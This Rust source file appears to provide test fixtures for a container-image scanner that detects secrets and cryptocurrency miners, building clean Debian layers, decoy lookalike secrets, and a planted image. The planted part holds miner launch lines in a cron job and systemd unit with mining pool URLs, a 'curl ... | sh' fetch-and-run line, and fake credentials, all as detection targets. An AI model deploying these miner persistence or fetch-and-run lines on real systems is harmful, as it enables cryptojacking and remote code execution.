//! Realistic test content (crate feature `fixtures`): layers made of the files of Debian
//! packages installed on this machine, bait files that trip naive scanners, and a planted
//! image with miners and secrets in the places attackers and careless builds put them,
//! listed with what a scan must report.
//!
//! Used by the detection tests, the realistic benchmark and `examples/detection-fixtures`
//! (which writes the images and their extracted layers for the comparison in
//! `docs/detection.md`).

use std::io;
use std::process::Command;

use crate::fixtures::{Compression, Image, ImageBuilder, Layer, LayerBuilder};

/// Packages whose files make the clean control's "real distribution" layers: a base
/// system, interpreters, TLS and certificates, documentation, timezone data.
pub const CLEAN_PACKAGES: &[&str] = &[
    "coreutils",
    "bash",
    "libc6",
    "libc-bin",
    "perl-base",
    "perl-modules-5.36",
    "ca-certificates",
    "openssl",
    "libssl3",
    "tzdata",
    "libpython3.11-stdlib",
    "libpython3.11-minimal",
    "python3-pkg-resources",
    "git",
    "curl",
    "libcurl4",
    "gzip",
    "tar",
    "grep",
    "sed",
    "findutils",
    "dpkg",
    "apt",
    "util-linux",
    "passwd",
    "login",
    "debconf",
    "iso-codes",
    "vim-runtime",
];

/// Big packages installed on this machine that make an image realistic in mix (after
/// [`CLEAN_PACKAGES`]): libperl, ICU, Python, GCC, the JRE, Node.js, LLVM, PostgreSQL,
/// MariaDB, Mesa, icon themes, Erlang, kubectl.
pub const BIG_PACKAGES: &[&str] = &[
    "libperl5.36",
    "libicu72",
    "python3.11",
    "libpython3.11-dev",
    "gcc-12",
    "cpp-12",
    "libstdc++-12-dev",
    "openjdk-17-jre-headless",
    "nodejs",
    "libllvm14",
    "libz3-4",
    "valgrind",
    "postgresql-15",
    "mariadb-server-core",
    "libgl1-mesa-dri",
    "adwaita-icon-theme",
    "libgtk2.0-common",
    "libx265-199",
    "erlang-base",
    "rabbitmq-server",
    "kubectl",
];

/// The regular files of one installed Debian package (symlinks and directories come
/// from other packages' layers or don't matter here), read from this machine, up to
/// `max_bytes` in all: (path without its leading `/`, bytes, permission bits). Empty if
/// the package is not installed.
pub fn package_files(name: &str, max_bytes: u64) -> Vec<(String, Vec<u8>, u32)> {
    let Ok(out) = Command::new("dpkg").args(["-L", name]).output() else {
        return Vec::new();
    };
    if !out.status.success() {
        return Vec::new();
    }
    let mut files = Vec::new();
    let mut total = 0u64;
    for path in String::from_utf8_lossy(&out.stdout).lines() {
        let Ok(meta) = std::fs::symlink_metadata(path) else {
            continue;
        };
        if !meta.is_file() || total + meta.len() > max_bytes {
            continue;
        }
        let Ok(bytes) = std::fs::read(path) else {
            continue;
        };
        use std::os::unix::fs::PermissionsExt;
        total += bytes.len() as u64;
        files.push((
            path.trim_start_matches('/').to_string(),
            bytes,
            meta.permissions().mode() & 0o7777,
        ));
    }
    files
}

/// Each installed package of [`CLEAN_PACKAGES`], then `extra`, with its files
/// ([`package_files`]): at most `per_package` bytes from each, until `target_bytes` in
/// all. Packages not installed here (or with no bytes) are skipped. Returns the bytes handed out.
fn each_debian_package(
    extra: &[&str],
    target_bytes: u64,
    per_package: u64,
    mut each: impl FnMut(&str, Vec<(String, Vec<u8>, u32)>),
) -> u64 {
    let mut total = 0u64;
    for name in CLEAN_PACKAGES.iter().chain(extra) {
        if total >= target_bytes {
            break;
        }
        let files = package_files(name, per_package.min(target_bytes - total));
        let n: u64 = files.iter().map(|f| f.1.len() as u64).sum();
        if n > 0 {
            total += n;
            each(name, files);
        }
    }
    total
}

/// The files of [`debian_layers`]' image, in its order.
pub fn debian_files(
    extra: &[&str],
    target_bytes: u64,
    per_package: u64,
) -> Vec<(String, Vec<u8>, u32)> {
    let mut files = Vec::new();
    each_debian_package(extra, target_bytes, per_package, |_, more| {
        files.extend(more)
    });
    files
}

/// Layers of Debian packages (one per package, in [`CLEAN_PACKAGES`] order, then
/// `extra`), until `target_bytes` of file content, at most `per_package` bytes from
/// each. Returns the layers and the package names used. With `one_layer`, every package
/// goes into one layer.
pub fn debian_layers(
    extra: &[&str],
    target_bytes: u64,
    per_package: u64,
    one_layer: bool,
    c: Compression,
) -> (Vec<Layer>, Vec<String>, u64) {
    let mut layers = Vec::new();
    let mut names = Vec::new();
    let mut layer = LayerBuilder::new();
    let total = each_debian_package(extra, target_bytes, per_package, |name, files| {
        names.push(name.to_string());
        for (path, bytes, mode) in files {
            layer = std::mem::take(&mut layer).file_mode(&path, bytes, mode);
        }
        if !one_layer {
            layers.push(std::mem::take(&mut layer).build(c));
        }
    });
    if one_layer {
        layers.push(layer.build(c));
    }
    (layers, names, total)
}

/// A deterministic pseudo-random generator (xorshift64*), so fixtures are reproducible.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed | 1)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    pub fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next_u64() as u8).collect()
    }
    pub fn base64(&mut self, n: usize) -> String {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(self.bytes(n))
    }
    pub fn hex(&mut self, n: usize) -> String {
        crate::hex(&self.bytes(n))
    }
}

fn tool(cmd: &str, args: &[&str]) -> io::Result<Vec<u8>> {
    let out = Command::new(cmd).args(args).output().map_err(|e| {
        io::Error::new(
            e.kind(),
            format!("{cmd}: {e} (scripts/test.sh installs it)"),
        )
    })?;
    if !out.status.success() {
        return Err(io::Error::other(format!(
            "{cmd} {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        )));
    }
    Ok(out.stdout)
}

/// Files that look like secrets to a naive scanner and are not: a self-signed
/// certificate, public keys, lockfiles full of hashes, minified JavaScript, documentation
/// example keys, base64 blobs, UUIDs and digests, templates with placeholders.
pub fn bait_layer(work: &std::path::Path) -> io::Result<LayerBuilder> {
    let mut rng = Rng::new(0x5eed_ba17);
    let mut l = LayerBuilder::new();

    // Certificates and public keys: made fresh, private halves thrown away.
    let key = work.join("bait.key");
    let key_s = key.to_string_lossy().into_owned();
    tool(
        "openssl",
        &[
            "genpkey",
            "-algorithm",
            "EC",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-out",
            &key_s,
        ],
    )?;
    let cert = tool(
        "openssl",
        &[
            "req",
            "-x509",
            "-key",
            &key_s,
            "-subj",
            "/CN=bait.internal",
            "-days",
            "30",
        ],
    )?;
    let public = tool("openssl", &["pkey", "-in", &key_s, "-pubout"])?;
    std::fs::remove_file(&key)?;
    l = l
        .file("etc/ssl/certs/bait-selfsigned.pem", &cert)
        .file("etc/nginx/tls/server.crt", &cert)
        .file("etc/app/signing-public.pem", &public);
    let ssh = work.join("bait_ed25519");
    let ssh_s = ssh.to_string_lossy().into_owned();
    let _ = std::fs::remove_file(&ssh);
    tool(
        "ssh-keygen",
        &[
            "-q", "-t", "ed25519", "-N", "", "-C", "ops@bait", "-f", &ssh_s,
        ],
    )?;
    let pubkey = std::fs::read(ssh.with_extension("pub"))?;
    std::fs::remove_file(&ssh)?;
    std::fs::remove_file(ssh.with_extension("pub"))?;
    l = l
        .file("home/app/.ssh/authorized_keys", &pubkey)
        .file("home/app/.ssh/id_ed25519.pub", &pubkey)
        .file(
            "etc/ssh/ssh_known_hosts",
            format!(
                "github.com ssh-ed25519 {}\n",
                String::from_utf8_lossy(&pubkey)
                    .split(' ')
                    .nth(1)
                    .unwrap_or("")
            ),
        );

    // Lockfiles: thousands of hashes.
    let mut lock =
        String::from("{\n  \"name\": \"web\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\n");
    let mut yarn = String::from("# yarn lockfile v1\n\n");
    let mut gosum = String::new();
    let mut cargo = String::from("version = 4\n\n");
    for i in 0..400 {
        let integrity = rng.base64(64);
        lock.push_str(&format!(
            "    \"node_modules/pkg-{i}\": {{\n      \"version\": \"1.{i}.0\",\n      \"resolved\": \"https://registry.npmjs.org/pkg-{i}/-/pkg-{i}-1.{i}.0.tgz\",\n      \"integrity\": \"sha512-{integrity}\"\n    }},\n"
        ));
        yarn.push_str(&format!(
            "pkg-{i}@^1.{i}.0:\n  version \"1.{i}.0\"\n  resolved \"https://registry.yarnpkg.com/pkg-{i}/-/pkg-{i}-1.{i}.0.tgz#{}\"\n  integrity sha512-{}\n\n",
            rng.hex(20),
            rng.base64(64)
        ));
        gosum.push_str(&format!(
            "github.com/org/mod{i} v1.{i}.0 h1:{}=\ngithub.com/org/mod{i} v1.{i}.0/go.mod h1:{}=\n",
            &rng.base64(32)[..43],
            &rng.base64(32)[..43]
        ));
        cargo.push_str(&format!(
            "[[package]]\nname = \"crate{i}\"\nversion = \"0.{i}.1\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{}\"\n\n",
            rng.hex(32)
        ));
    }
    lock.push_str("    \"\": {}\n  }\n}\n");
    l = l
        .file("srv/web/package-lock.json", lock)
        .file("srv/web/yarn.lock", yarn)
        .file("srv/go/go.sum", gosum)
        .file("srv/rust/Cargo.lock", cargo);

    // Minified JavaScript: the real thing from this machine's npm, where present.
    let mut js_bytes = 0usize;
    for root in [
        "/usr/share/nodejs",
        "/usr/lib/node_modules/npm/node_modules",
    ] {
        for path in walk_files(std::path::Path::new(root), 4000) {
            if js_bytes > 6 << 20 {
                break;
            }
            let name = path.to_string_lossy();
            if !(name.ends_with(".js") || name.ends_with(".min.js") || name.ends_with(".json")) {
                continue;
            }
            if let Ok(b) = std::fs::read(&path) {
                js_bytes += b.len();
                l = l.file(&format!("srv/web/node_modules{}", &name[root.len()..]), b);
            }
        }
    }
    // And a made-up bundle: long lines of identifiers, hex colours and hashes.
    let mut bundle = String::from("!function(e){\"use strict\";");
    for i in 0..3000 {
        bundle.push_str(&format!(
            "var a{i}=\"{}\",b{i}=\"#{}\",c{i}=function(t){{return t&&t.k{i}||\"{}\"}};",
            rng.hex(16),
            &rng.hex(3),
            rng.base64(24)
        ));
    }
    bundle.push_str("}(window);\n");
    l = l.file("srv/web/static/js/main.4f9c2e1a.min.js", bundle);

    // Documentation with vendors' example credentials and placeholders.
    l = l.file(
        "usr/share/doc/app/CONFIGURING.md",
        "# Configuring\n\n\
         Set your AWS keys (these are AWS's documented examples):\n\n\
         ```\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n\
         aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n```\n\n\
         GitHub: `export GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`\n\
         Slack: `https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX`\n\
         Database: `postgres://user:password@localhost:5432/app`\n\
         password: <your-password>\n\
         API_KEY=${API_KEY}\n\
         token: {{ .Values.token }}\n\
         Mining is not allowed on this service; CPU abuse is detected.\n",
    );
    l = l
        .file(
            "srv/app/.env.example",
            "DB_PASSWORD=changeme\nSECRET_KEY=replace-me\nSTRIPE_KEY=sk_live_your_key_here\nREDIS_URL=redis://localhost:6379/0\n",
        )
        .file(
            "srv/app/k8s/deployment.yaml",
            "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        env:\n        - name: DB_PASSWORD\n          valueFrom:\n            secretKeyRef: {name: db, key: password}\n",
        );

    // Base64 blobs, digests, UUIDs.
    let mut css = String::new();
    for i in 0..50 {
        css.push_str(&format!(
            ".icon-{i}{{background:url(data:image/png;base64,{})}}\n",
            rng.base64(600)
        ));
    }
    let mut manifest = String::from("{\n");
    for i in 0..300 {
        let u = rng.hex(16);
        manifest.push_str(&format!(
            "  \"asset{i}\": {{\"sha256\": \"{}\", \"id\": \"{}-{}-{}-{}-{}\", \"etag\": \"{}\"}},\n",
            rng.hex(32),
            &u[..8],
            &u[8..12],
            &u[12..16],
            &u[16..20],
            &u[20..32],
            rng.base64(18)
        ));
    }
    manifest.push_str("  \"end\": {}\n}\n");
    l = l
        .file("srv/web/static/css/icons.css", css)
        .file("srv/web/asset-manifest.json", manifest)
        .file("srv/app/data/blob.b64", rng.base64(48 << 10))
        .file("srv/app/data/random.bin", rng.bytes(256 << 10));
    Ok(l)
}

/// Regular files under `root`, breadth-first, at most `max`, in a stable order.
pub(crate) fn walk_files(root: &std::path::Path, max: usize) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut dirs = vec![root.to_path_buf()];
    while let Some(d) = dirs.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        let mut entries: Vec<_> = rd.filter_map(|e| e.ok()).map(|e| e.path()).collect();
        entries.sort();
        for p in entries {
            let Ok(m) = std::fs::symlink_metadata(&p) else {
                continue;
            };
            if m.is_dir() {
                dirs.push(p);
            } else if m.is_file() && out.len() < max {
                out.push(p);
            }
        }
    }
    out
}

/// A finding a scan of the planted image must report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Expect {
    pub rule: String,
    pub path: String,
    /// `visible` or `deleted`.
    pub visibility: &'static str,
    /// The archive chain, outermost first; empty for a file of the layer itself.
    pub chain: Vec<String>,
}

fn expect(rule: &str, path: &str) -> Expect {
    Expect {
        rule: rule.into(),
        path: path.into(),
        visibility: "visible",
        chain: vec![],
    }
}

/// The Monero General Fund's published donation address: a real, checksum-valid address
/// that is nobody's miner payout.
pub const MONERO_ADDRESS: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

/// A made-up AWS key pair in AWS's formats (not a real key).
const AWS_ID: &str = "AKIAZ7QWERTYUIOPASDF";
const AWS_SECRET: &str = "q8Jd/2kLw9Xz+3VbN7mRt5YpHs1GcE4uAo6WfZiT";

/// The planted image: every secret rule's and every miner rule's first positive example in
/// a realistic place, plus hand-written scenarios (an xmrig config, a cron job and a
/// systemd unit starting a miner, a miner and credentials deleted by a later layer, a
/// miner configured only through CMD and ENV, a jar and a tarball with secrets inside).
/// Returns the image and what must be found.
pub fn planted_image(c: Compression) -> (Image, Vec<Expect>) {
    let mut want = Vec::new();
    let mut l = LayerBuilder::new();

    for r in canary_rules::secret_rules() {
        let name = r.id.trim_start_matches("secret/");
        let path = match r.paths.first() {
            Some(p) => p
                .replace("**", "home/app")
                .trim_start_matches('/')
                .to_string(),
            None => format!("srv/app/config/{name}.env"),
        };
        l = l.file(&path, &r.positive[0]);
        want.push(expect(&r.id, &format!("/{path}")));
    }
    for m in canary_rules::miner_rules() {
        let example = &m.positive[0];
        let name = m.name.to_ascii_lowercase();
        let path = if example.starts_with(b"\x7fELF") || example.starts_with(b"MZ") {
            format!("usr/local/bin/{name}")
        } else if m.family.contains("js")
            || m.family.contains("coinhive")
            || m.family.contains("wasm")
            || m.id.contains("browser")
        {
            format!("var/www/html/assets/{name}.js")
        } else {
            format!("opt/{name}/start.sh")
        };
        l = l.file(&path, example);
        want.push(expect(&m.id, &format!("/{path}")));
    }

    // An xmrig-style config hidden in a dot directory.
    let config = format!(
        "{{\n  \"autosave\": true,\n  \"cpu\": {{ \"enabled\": true, \"huge-pages\": true }},\n  \"donate-level\": 1,\n  \"pools\": [\n    {{\n      \"url\": \"pool.supportxmr.com:3333\",\n      \"user\": \"{MONERO_ADDRESS}\",\n      \"pass\": \"worker1\",\n      \"keepalive\": true,\n      \"tls\": false\n    }}\n  ]\n}}\n"
    );
    l = l.file("opt/.cache/.sys/config.json", &config);
    want.push(expect("miner/pool-host", "/opt/.cache/.sys/config.json"));
    want.push(expect(
        "miner/wallet-address",
        "/opt/.cache/.sys/config.json",
    ));
    // Started by cron and by a systemd unit.
    l = l
        .file(
            "etc/cron.d/kworker",
            format!("*/10 * * * * root /var/tmp/.k/kworker -o stratum+tcp://gulf.moneroocean.stream:10128 -u {MONERO_ADDRESS} -p x --donate-level 1 -B\n"),
        )
        .file(
            "etc/systemd/system/sysupdate.service",
            "[Unit]\nDescription=System update\n\n[Service]\nExecStart=/usr/local/sbin/sysupdate --url stratum+ssl://xmr.2miners.com:12222 --user 4BrL51JCc9NGQ71kWhnYoDRffsDZy7m1HUU7MRU4nUMXAHNFBEJhkTZV9HdaL4gfuNBxLPc3BeMkLGaPbF5vWtANQsGwTGg4 --threads 8\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n",
        );
    for p in [
        "/etc/cron.d/kworker",
        "/etc/systemd/system/sysupdate.service",
    ] {
        want.push(expect("miner/stratum-url", p));
        want.push(expect("miner/persistence", p));
    }
    want.push(expect("miner/wallet-address", "/etc/cron.d/kworker"));
    // A token in an installed Python package.
    l = l.file(
        "usr/lib/python3/dist-packages/internal_client/settings.py",
        "API_BASE = \"https://api.github.com\"\nGITHUB_TOKEN = \"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\"\n",
    );
    want.push(expect(
        "secret/github-token",
        "/usr/lib/python3/dist-packages/internal_client/settings.py",
    ));
    let first = l.build(c);
    let (nested, nested_want) = nested_layer();
    want.extend(nested_want);

    // Credentials and a miner that a later layer deletes: still in the image.
    let doomed = LayerBuilder::new()
        .file(
            "root/.aws/credentials",
            format!("[default]\naws_access_key_id = {AWS_ID}\naws_secret_access_key = {AWS_SECRET}\n"),
        )
        .file(
            "tmp/build/fetch.sh",
            format!("#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n./xmr -o stratum+tcp://pool.hashvault.pro:3333 -u {MONERO_ADDRESS}\n"),
        )
        .build(c);
    for (rule, path) in [
        ("secret/aws-access-key-id", "/root/.aws/credentials"),
        ("secret/aws-secret-access-key", "/root/.aws/credentials"),
        ("file/credential-file", "/root/.aws/credentials"),
        ("miner/stratum-url", "/tmp/build/fetch.sh"),
        ("miner/wallet-address", "/tmp/build/fetch.sh"),
    ] {
        want.push(Expect {
            visibility: "deleted",
            ..expect(rule, path)
        });
    }
    let cleanup = LayerBuilder::new()
        .whiteout("root/.aws")
        .whiteout("tmp/build")
        .build(c);

    let image = ImageBuilder::new()
        .layer(first)
        .layer(doomed)
        .layer(cleanup)
        .layer(nested.build(c))
        .env("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
        .env(&format!("WALLET={MONERO_ADDRESS}"))
        .entrypoint(&["/bin/sh", "-c"])
        .cmd(&["/usr/local/bin/node -o stratum+tcp://pool.supportxmr.com:443 -u $WALLET -k"])
        .history("/bin/sh -c #(nop) ADD file:rootfs in /", false)
        .history("/bin/sh -c /tmp/build/fetch.sh", false)
        .history("/bin/sh -c rm -rf /root/.aws /tmp/build", false)
        .build();
    want.push(expect("config/miner-command", "(config)"));
    want.push(expect("config/monero-wallet", "(config)"));
    (image, want)
}

/// A jar and a tarball inside a layer, with a secret and a miner launcher in them.
fn nested_layer() -> (LayerBuilder, Vec<Expect>) {
    let props = "spring.datasource.url=jdbc:postgresql://db:5432/app\naws.accessKeyId=AKIAZ7QWERTYUIOPASDF\n";
    let jar = zip_stored(&[
        (
            "META-INF/MANIFEST.MF",
            b"Manifest-Version: 1.0\n".as_slice(),
        ),
        ("BOOT-INF/classes/application.properties", props.as_bytes()),
    ]);
    let outer = zip_stored(&[("lib/service.jar", &jar)]);
    let mut tar = tar::Builder::new(Vec::new());
    let script = format!(
        "#!/bin/sh\nexec ./helper -o stratum+tcp://pool.supportxmr.com:3333 -u {}\n",
        MONERO_ADDRESS
    );
    let mut h = tar::Header::new_gnu();
    h.set_size(script.len() as u64);
    h.set_mode(0o755);
    h.set_cksum();
    tar.append_data(&mut h, "vendor/bin/start.sh", script.as_bytes())
        .unwrap();
    let tar = tar.into_inner().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &tar).unwrap();
    let tgz = gz.finish().unwrap();
    let layer = LayerBuilder::new()
        .file("app/app.jar", &outer)
        .file("opt/vendor.tar.gz", &tgz);
    let want = vec![
        Expect {
            rule: "secret/aws-access-key-id".into(),
            path: "BOOT-INF/classes/application.properties".into(),
            visibility: "visible",
            chain: vec!["/app/app.jar".into(), "lib/service.jar".into()],
        },
        Expect {
            rule: "miner/stratum-url".into(),
            path: "vendor/bin/start.sh".into(),
            visibility: "visible",
            chain: vec!["/opt/vendor.tar.gz".into()],
        },
    ];
    (layer, want)
}

/// A zip of stored members (a minimal writer of our own).
pub fn zip_stored(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, data) in files {
        let crc = crc32fast::hash(data);
        let offset = out.len() as u32;
        let local = |sig: u32, out: &mut Vec<u8>| {
            out.extend_from_slice(&sig.to_le_bytes());
        };
        local(0x0403_4b50, &mut out);
        for v in [20u16, 0, 0, 0, 0] {
            out.extend_from_slice(&v.to_le_bytes());
        }
        out.extend_from_slice(&crc.to_le_bytes());
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        for v in [20u16, 20, 0, 0, 0, 0] {
            central.extend_from_slice(&v.to_le_bytes());
        }
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        for v in [0u16, 0, 0, 0] {
            central.extend_from_slice(&v.to_le_bytes());
        }
        central.extend_from_slice(&0u32.to_le_bytes());
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    for v in [0u16, 0, files.len() as u16, files.len() as u16] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// Layers served from memory, as the blob cache serves them from disk.
struct InMemory(&'static [Vec<u8>]);

impl crate::image::BlobOpener for InMemory {
    fn open(&self, layer: &crate::image::Layer) -> crate::Result<Box<dyn std::io::Read + Send>> {
        Ok(Box::new(&self.0[layer.index][..]))
    }
}

/// An image of `blobs` (layer blobs in order) with an empty config, for benchmarks.
pub fn in_memory_image(name: &str, blobs: &'static [Vec<u8>]) -> crate::image::ResolvedImage {
    use crate::image::{ImageConfig, Layer, ResolvedImage, Verify};
    ResolvedImage {
        name: name.into(),
        manifest_digest: None,
        index_digest: None,
        platform: None,
        config_digest: None,
        config: ImageConfig::default(),
        layers: blobs
            .iter()
            .enumerate()
            .map(|(i, b)| Layer {
                index: i,
                digest: crate::fixtures::sha256_digest(b),
                media_type: None,
                size: Some(b.len() as u64),
                verify: Verify::Done,
            })
            .collect(),
        opener: Box::new(InMemory(blobs)),
    }
}
